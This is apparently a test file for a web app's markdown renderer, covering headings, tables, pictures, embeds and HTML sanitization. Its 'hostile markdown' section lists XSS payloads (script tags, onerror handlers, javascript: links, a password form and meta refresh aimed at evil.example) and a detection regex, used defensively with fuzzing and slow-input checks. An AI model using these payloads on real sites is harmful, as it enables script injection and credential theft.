import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { drawn, draws } from '#tests/setup/drawn.ts'
import { picturesIn } from './pictures-in.ts'
import { renderArticle, renderPost } from './render.server.ts'

describe('an article', () => {
  test('has headings with anchors, a table of contents and a reading time', () => {
    const { html, toc, readingMinutes, text } = renderArticle(
      '# One\n\nSome words.\n\n## One\n\n### A *b*\n\n#### Deep',
    )
    expect(html).toContain('<h2 id="section-one"><a class="anchor" href="#section-one">One</a></h2>')
    expect(toc).toEqual([
      { id: 'section-one', text: 'One', level: 2 },
      { id: 'section-one-1', text: 'One', level: 2 },
      { id: 'section-a-b', text: 'A b', level: 3 },
    ])
    expect(readingMinutes).toBe(1)
    expect(text).toBe('One Some words. One A b Deep')
  })

  test('counts a minute for 220 words', () => {
    expect(renderArticle('word '.repeat(1100)).readingMinutes).toBe(5)
  })

  test('colors code and lets it scroll by keyboard', () => {
    const { html } = renderArticle('```sql\nselect 1 from wins\n```')
    expect(html).toContain('<pre tabindex="0"><code class="hljs language-sql"><span class="hljs-keyword">select</span>')
  })

  test('leaves code of an unknown language alone', () => {
    expect(renderArticle('```klingon\nqapla\n```').html).toContain('qapla')
  })

  test('labels the cells of an article’s table with the heads of their columns, for cards on phones', () => {
    const table = '| Kind | Use | |\n| --- | --- | --- |\n| Cash | <b>One</b> | Two | Three |\n'
    expect(renderArticle(table).html).toContain('<td>Cash</td>\n<td data-label="Use"><b>One</b></td>\n<td>Two</td>')
    expect(renderPost(table).html).not.toContain('data-label')
  })

  test('marks pictures on light ground, which are dimmed on dark pages', () => {
    const image = { url: '/files/articles/a.png', width: 9, height: 9, widths: [] }
    const shown = (color: string) =>
      renderArticle('![](/files/articles/a.png)', new Map([[image.url, { ...image, color }]]))
    expect(shown('#fbf7ee').html).toContain('class="bright"')
    expect(shown('#0b2a2a').html).not.toContain('bright')
  })

  test('wraps tables in named regions', () => {
    const table = '| Kind | Use |\n| --- | --: |\n| Cash | 1 |\n'
    const { html } = renderArticle(`${table}\n\nThen\n\n${table}`)
    expect(html).toContain('<div class="table" role="region" aria-label="Table: Kind, Use" tabindex="0"><table>')
    expect(html).toContain('aria-label="Table: Kind, Use (2)"')
    expect(html).toContain('<td align="right" data-label="Use">1</td>')
    expect(html).not.toContain('style=')
  })

  test('shows a stored picture in all its forms, sized and lazy, with its title as caption', () => {
    const url = '/files/articles/thumbnails/17.png'
    const images = new Map([[url, { url, width: 900, height: 300, color: '#ffffff', widths: [320, 900] }]])
    const { html } = renderArticle(`![Rings](${url} "Three rings")`, images)
    expect(html).toContain(
      '<figure><picture><source type="image/avif" srcset="/files/articles/thumbnails/17-320.avif 320w',
    )
    expect(html).toContain(
      `<img src="${url}" alt="Rings" width="900" height="300" loading="lazy" decoding="async" class="bright"></picture>`,
    )
    expect(html).toContain('<figcaption>Three rings</figcaption></figure>')
  })

  test('shows callouts, buttons, downloads and videos, and asks no other site for them', () => {
    const { html } = renderArticle(
      '> [!WARNING]\n> Mind *it*.\n\n::button[Talk](/contact)\n\n::download[Kit](/resources/downloads/a1)\n\n' +
        '::video[Demo](https://www.video.example/1)',
    )
    expect(html).toBe(
      '<div class="callout callout-warning" role="note"><p class="callout-name">Warning</p>\n' +
        '<p>Mind <em>it</em>.</p>\n</div>\n<p class="embed embed-button"><a href="/contact">Talk</a></p>\n' +
        '<p class="embed embed-download"><a href="/resources/downloads/a1">Kit</a></p>\n' +
        '<p class="embed embed-video"><a href="https://www.video.example/1" rel="noopener">Demo' +
        '<span class="embed-host">video.example</span></a></p>',
    )
  })

  test('shows a download whose address has letters outside ASCII', () => {
    expect(renderArticle('::download[Kit](/resources/downloads/für-käufer)').html).toBe(
      '<p class="embed embed-download"><a href="/resources/downloads/f%C3%BCr-k%C3%A4ufer">Kit</a></p>',
    )
  })

  test('leaves incomplete callouts and embeds as text', () => {
    const same = (markdown: string) => expect(renderArticle(markdown).html)
    same('::video[x](/here)').toBe('<p><a href="/here">x</a></p>')
    same('::download[x](https://elsewhere.example/x.exe)').not.toContain('embed')
    same('::download[x](/resources/downloads/a1/file?x)').not.toContain('embed')
    same('::button[x](javascript:alert(1))').not.toMatch(/javascript|embed/)
    same('::button[x](//elsewhere.example)').not.toContain('embed')
    same('> [!WARNING] and more').toContain('<blockquote>')
    same('::button[](/contact)').toContain('>Open</a>')
    same('::video[](https://www.video.example/1)').toContain('>Watch the video<')
    same('::download[Kit]()').not.toContain('<a')
    same('Not ::button[x](/here)').toContain('::button')
    expect(renderPost('> [!NOTE]\n> x\n\n::button[x](/x)').html).not.toMatch(/callout|embed/)
  })

  test('gives a picture the width that its address asks for', () => {
    const { html } = renderArticle('![Rings](/files/articles/a.png#small "Three")')
    expect(html).toContain('<figure class="figure-small"><img src="/files/articles/a.png" alt="Rings" loading')
  })

  test('turns a picture from elsewhere into a link', () => {
    expect(renderArticle('![Pixel](https://elsewhere.example/p.gif)').html).toBe(
      '<p><a href="https://elsewhere.example/p.gif" rel="noopener">Pixel</a></p>',
    )
    expect(renderArticle('![x](/files/articles/../../campus/leave)').html).not.toContain('<img')
  })

  test('keeps footnotes that lead there and back', () => {
    const { html, toc } = renderArticle('A claim.[^1]\n\n[^1]: Its source.')
    const [, reference] = /href="#(note-[0-9a-f]{8}-fn-1)"/.exec(html) ?? []
    expect(html).toContain(`<li id="${reference}">`)
    expect(html).toContain('class="visually-hidden"')
    expect(toc).toEqual([])
  })

  test('names the boxes of task lists', () => {
    expect(renderArticle('- [x] Rehearsed\n- [ ] Recorded').html).toContain(
      '<input type="checkbox" checked disabled aria-label="Rehearsed">',
    )
  })

  test('shows text in angle brackets that is not HTML', () => {
    expect(renderArticle('We told <customer> and </customer>, <kbd>Tab</kbd>').html).toBe(
      '<p>We told &#x3C;customer> and &#x3C;/customer>, <kbd>Tab</kbd></p>',
    )
  })

  test('keeps the little HTML that markdown has no sign for, and nothing more', () => {
    const { html } = renderArticle(
      'Press <kbd>Tab</kbd> <b onclick="x()" style="color:red" id="body">now</b><script>alert(1)</script>',
    )
    expect(html).toBe('<p>Press <kbd>Tab</kbd> <b>now</b></p>')
  })
})

describe('a post', () => {
  test('marks links as user content for search engines', () => {
    expect(renderPost('[a](https://elsewhere.example) [b](//elsewhere.example) [c](/campus)').html).toBe(
      '<p><a href="https://elsewhere.example" rel="nofollow ugc noopener">a</a> <a ' +
        'href="//elsewhere.example" rel="nofollow ugc noopener">b</a> <a href="/campus">c</a></p>',
    )
  })

  test('has no heading above h3', () => {
    expect(renderPost('# Loud').html).toBe('<h3>Loud</h3>')
  })

  test('escapes HTML: text in angle brackets is shown', () => {
    expect(renderPost('We told <customer> and <b>them</b> <img src=x onerror=alert(1)>').html).toBe(
      '<p>We told &#x3C;customer> and &#x3C;b>them&#x3C;/b> &#x3C;img src=x onerror=alert(1)></p>',
    )
    expect(renderPost('<customer>\nsaid no\n</customer>').html).toBe(
      '<p>&#x3C;customer>\nsaid no\n&#x3C;/customer></p>',
    )
    expect(renderPost('<!-- hidden -->').html).toContain('hidden')
  })
})

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&colon;alert(1))',
  '[x](java\nscript:alert(1))',
  '<a href="javascript:alert(1)">x</a>',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](javascript:alert(1))',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<math><mtext></p><script>alert(1)</script>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>*{display:none}</style>',
  '<p style="position:fixed">x</p>',
  '<form action=//evil.example><input name=password><button>ok',
  '<a id=location name=cookie>x</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><script>alert(1)</script></template>',
  '<base href="//evil.example"><meta http-equiv=refresh content="0;//evil.example"><link ' +
    'rel=stylesheet href=//evil.example>',
  '```js" onload="alert(1)\nx\n```',
  '# <img src=x onerror=alert(1)>',
  '[^1]: <script>alert(1)</script>\n\n[^1]',
  '<details ontoggle=alert(1) open>x</details>',
  '<div itemscope><h2 id="section-x" class="visually-hidden">x</h2></div>',
]

const forbidden = new RegExp(
  [
    /<(?:script|style|svg|math|iframe|form|button|textarea|object|embed|base|meta|link|template|noscript)\b/,
    /<[^>]*\s(?:on\w+|style|name|srcdoc|formaction)\s*=/,
    /(?:href|src)="\s*(?:javascript|data|vbscript)/,
  ]
    .map(({ source }) => source)
    .join('|'),
  'i',
)

describe('hostile markdown', () => {
  test.each(attacks)('%s', (attack) => {
    for (const html of [renderArticle(attack).html, renderPost(attack).html])
      expect(withoutText(html)).not.toMatch(forbidden)
  })

  test(
    'any mixture of attacks stays harmless',
    () => {
      const piece = fc.oneof(
        fc.constantFrom(...attacks),
        fc.constantFrom(
          '> ',
          '- ',
          '\n',
          '\n\n',
          '    ',
          '`',
          '```\n',
          '|',
          '| --- |\n',
          '*',
          '_',
          '[',
          '](',
          ')',
          '<',
          '>',
          '"',
          "'",
          '\\',
          '&#x6a;',
          '\0',
          '\u202e',
        ),
        fc.string({ maxLength: 12 }),
      )
      fc.assert(
        fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
          const markdown = pieces.join('')
          for (const html of [renderArticle(markdown).html, renderPost(markdown).html]) {
            const tags = withoutText(html)
            expect(tags).not.toMatch(forbidden)
            for (const [, id] of tags.matchAll(/\sid="([^"]*)"/g)) expect(id).toMatch(/^(?:section|note)-/)
          }
        }),
        drawn(400),
      )
    },
    180_000 * draws,
  )

  test.each([
    ['quotes', '>'.repeat(20_000)],
    ['spaced quotes', '> '.repeat(10_000)],
    ['lists', '- '.repeat(10_000)],
    ['numbered lists', '1. '.repeat(6_000)],
    ['brackets', '['.repeat(20_000)],
    ['closed brackets', `${'['.repeat(5_000)}a${']'.repeat(5_000)}`],
    ['links in links', '[a]('.repeat(5_000)],
    ['stars', '*a '.repeat(6_000)],
    ['closed stars', `${'*a '.repeat(3_000)}${' a*'.repeat(3_000)}`],
    ['as many closed stars as are paired', `${'*a '.repeat(200)}${' a*'.repeat(200)}`],
    ['strong', '**a **b '.repeat(2_500)],
    ['backticks', Array.from({ length: 190 }, (_, length) => '`'.repeat(length)).join(' ')],
    ['tables', `|${'a|'.repeat(5_000)}\n|${'-|'.repeat(5_000)}`],
    ['open tags', '<b>'.repeat(6_000)],
    ['comments', '<!--'.repeat(5_000)],
    ['entities', '&amp;'.repeat(4_000)],
    ['footnotes', '[^a]'.repeat(5_000)],
    ['indented lists', Array.from({ length: 190 }, (_, depth) => `${' '.repeat(depth)}- a`).join('\n')],
    ['quotes on many lines', '>>>>>>>>>>>>>>>>>>>>\n'.repeat(950)],
    ['autolinks', 'www.a.a '.repeat(2_500)],
    ['mail addresses', 'a@'.repeat(10_000)],
  ])('20,000 characters of %s take no long time', (_name, markdown) => {
    // CPU time of this process: others share the machine.
    const started = process.cpuUsage()
    renderPost(markdown)
    expect(process.cpuUsage(started).user / 1_000).toBeLessThan(5_000)
  })
})

test('addresses of pictures are found once', () => {
  expect(picturesIn('![a](/files/articles/thumbnails/1.png) ![a](/files/articles/thumbnails/1.png)')).toEqual([
    '/files/articles/thumbnails/1.png',
  ])
})

// Only tags and their attributes can do harm: drop the text between them.
function withoutText(html: string): string {
  return (html.match(/<\/?[a-z](?:"[^"]*"|[^">])*>/gi) ?? []).join('').replace(/(aria-label|alt|title)="[^"]*"/g, '')
}

test('links of phones and mail programs work in articles and posts', () => {
  for (const href of ['tel:+1-555-0100', 'sms:+15550100?body=Hi', 'mailto:ada@example.com?subject=Hi']) {
    expect(renderArticle(`[Reach us](${href})`).html).toContain(`<a href="${href}"`)
    expect(renderPost(`[Reach us](${href})`).html).toContain(`<a href="${href}"`)
    expect(renderArticle(`::button[Reach us](${href})`).html).toContain(
      `<p class="embed embed-button"><a href="${href}"`,
    )
  }
  expect(renderPost('[Not this](javascript:x)').html).not.toContain('href')
})

test('a line break is kept in a post, also in quotes and items, but not in an article', () => {
  expect(renderPost('One\nTwo  \nThree').html).toBe('<p>One<br>\nTwo<br>\nThree</p>')
  expect(renderPost('> a\n> b').html).toContain('a<br>\nb')
  expect(renderPost('- a\n  b').html).toContain('a<br>\nb')
  expect(renderPost('```\na\nb\n```').html).not.toContain('<br>')
  expect(renderArticle('One\nTwo').html).not.toContain('<br>')
})

test.each([
  ['•\tOne\r\n•\tTwo', '<ul>\n<li>One</li>\n<li>Two</li>\n</ul>'],
  ['• One\n  ◦ Within\n• Two', '<li>Within</li>'],
  ['·       One\n·       Two', '<li>Two</li>'],
  ['\uf0b7 One\n\uf0b7 Two', '<li>Two</li>'],
  ['Before:\n● One\n● Two', '<li>One</li>\n<li>Two</li>'],
])('bullets that were pasted stay bullets: %j', (pasted, html) => {
  expect(renderPost(pasted).html).toContain(html)
})

test('a bullet in code, or within a line, is no list', () => {
  expect(renderPost('```\n• One\n```').html).toContain('• One')
  expect(renderPost('One • two').html).toBe('<p>One • two</p>')
})

test('headings, paragraphs and list items have their own direction if any text is right-to-left', () => {
  const { html } = renderPost('# שלום\n\nHello\n\n- مرحبا')
  expect(html).toContain('<h3 dir="auto">שלום</h3>')
  expect(html).toContain('<p dir="auto">Hello</p>')
  expect(html).toContain('<li dir="auto">مرحبا</li>')
  expect(renderPost('# Hello').html).toBe('<h3>Hello</h3>')
})
